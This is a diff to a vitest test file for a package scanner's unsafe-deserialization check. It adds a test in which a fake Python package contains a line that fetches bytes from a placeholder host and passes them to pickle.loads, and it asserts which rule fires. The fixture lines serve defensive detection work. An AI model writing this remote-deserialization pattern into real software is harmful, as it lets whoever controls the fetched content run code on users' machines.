@@ -1,4 +1,6 @@
 import { describe, expect, it } from 'vitest';
+import { weighFiles } from '../../../../test/builders/weigh-files.ts';
+import { sdist } from '../../../../test/builders/package.ts';
 import { codeFindings } from '../../../../test/builders/code-findings.ts';
 
 describe('checks/code/unsafe-deserialization', () => {
@@ -84,5 +86,21 @@ describe('checks/code/unsafe-deserialization', () => {
     '# pickle.loads(requests.get(u).content)\nx = "torch.load(p, weights_only=False)"',
   ])('stays silent about %j', async (text) => {
     expect(await codeFindings(text, { check: 'unsafe-deserialization' })).toEqual([]);
+  });
+});
+
+describe('unsafe-deserialization among the tests of a package', () => {
+  it('reports sample-load there and received-program in a module', async () => {
+    const bytes =
+      'import pickle, requests\ndef test_it(): pickle.loads(requests.get("https://host.invalid").content)\n';
+    const rulesIn = async (folder: string): Promise<readonly string[]> => {
+      const archive = sdist({ [`${folder}/test_it.py`]: bytes });
+      const { findings } = await weighFiles({ 'colorkit-1.0.tar.gz': archive });
+      return findings.map(({ rule }) => rule);
+    };
+
+    expect(await rulesIn('tests')).toContain('unsafe-deserialization/sample-load');
+    expect(await rulesIn('tests')).not.toContain('unsafe-deserialization/received-program');
+    expect(await rulesIn('colorkit')).toContain('unsafe-deserialization/received-program');
   });
 });
